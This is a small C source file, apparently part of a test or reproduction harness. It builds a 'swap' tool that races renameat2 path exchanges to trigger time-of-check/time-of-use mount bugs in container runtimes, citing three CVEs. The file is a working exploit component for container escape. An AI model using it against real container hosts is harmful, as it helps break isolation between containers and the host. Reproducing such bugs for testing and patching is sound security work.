/*
 * swap: exchanges two paths with renameat2(RENAME_EXCHANGE) in a tight loop, so a runtime that
 * resolves a mount destination, checks it, then uses the path again (CVE-2021-30465,
 * CVE-2024-45310, CVE-2025-52881) sees a symlink where it checked a directory.
 * Usage: swap PATH_A PATH_B SECONDS   (stops after SECONDS, or when killed)
 * Static (build.sh) so it runs anywhere, on the host or in a rootfs.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: swap PATH_A PATH_B SECONDS\n");
    return 2;
  }
  time_t end = time(NULL) + atol(argv[3]);
  unsigned long n = 0;
  while (time(NULL) < end) {
    for (int i = 0; i < 1000; i++) {
      if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
        perror("renameat2");
        return 1;
      }
      n++;
    }
  }
  fprintf(stderr, "swap: %lu exchanges\n", n);
  return 0;
}
